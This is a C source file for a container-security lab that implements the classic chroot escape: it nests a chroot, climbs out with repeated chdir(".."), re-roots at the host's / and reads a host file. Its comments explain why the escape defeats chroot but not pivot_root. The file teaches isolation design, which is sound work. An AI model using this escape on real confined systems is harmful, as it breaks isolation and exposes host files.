/*
 * Lab 04: the classic chroot escape (see rubber-docker's breakout.py).
 *
 *   breakout FILE   tries to leave the root it was started in, then to read
 *                   FILE (a path on the *host*). Prints ESCAPED and the file's
 *                   first line if it could, CONTAINED if not.
 *
 * Why it works under chroot: chroot(2) changes the root directory of the
 * calling process and nothing else. The kernel stops ".." at a process's
 * root only when the walk passes *through* that root. So:
 *   1. chroot into a subdirectory, WITHOUT chdir into it: our working
 *      directory is now outside our own root;
 *   2. chdir("..") again and again: the walk never meets our root, so it
 *      climbs to the real top of the mount tree;
 *   3. chroot(".") there: we are back at the host's /.
 * It needs CAP_SYS_CHROOT, which Docker's default set keeps.
 *
 * Why it fails after pivot_root: pivot_root(2) swaps the mount at / itself,
 * and tiny-docker then detaches the old root (umount2 MNT_DETACH). The host's
 * tree is no longer in this mount namespace at all: ".." from the container's
 * top is the container's top. There is nothing above to climb to.
 *
 * Built static (cc -static) so it runs in any rootfs.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: breakout FILE-ON-THE-HOST\n");
    return 2;
  }
  const char *jail = "/tmp/.breakout-jail";
  if (mkdir("/tmp", 0755) < 0 && errno != EEXIST) perror("mkdir /tmp");
  if (mkdir(jail, 0700) < 0 && errno != EEXIST) {
    fprintf(stderr, "breakout: mkdir %s: %s\n", jail, strerror(errno));
    return 2;
  }
  /* 1. a new root below us; our cwd ("/") stays outside it */
  if (chroot(jail) < 0) {
    fprintf(stderr, "breakout: chroot %s: %s (no CAP_SYS_CHROOT?)\n", jail, strerror(errno));
    return 2;
  }
  /* 2. climb: each ".." is checked against our root, which we never pass */
  for (int i = 0; i < 256; i++) {
    if (chdir("..") < 0) {
      fprintf(stderr, "breakout: chdir ..: %s\n", strerror(errno));
      return 2;
    }
  }
  /* 3. make the top we reached our root */
  if (chroot(".") < 0) {
    fprintf(stderr, "breakout: chroot .: %s\n", strerror(errno));
    return 2;
  }
  FILE *f = fopen(argv[1], "r");
  if (!f) {
    printf("CONTAINED: %s is not visible (%s)\n", argv[1], strerror(errno));
    return 1;
  }
  char line[256] = "";
  if (!fgets(line, sizeof line, f)) line[0] = 0;
  fclose(f);
  line[strcspn(line, "\n")] = 0;
  printf("ESCAPED: read the host's %s: %s\n", argv[1], line);
  return 0;
}
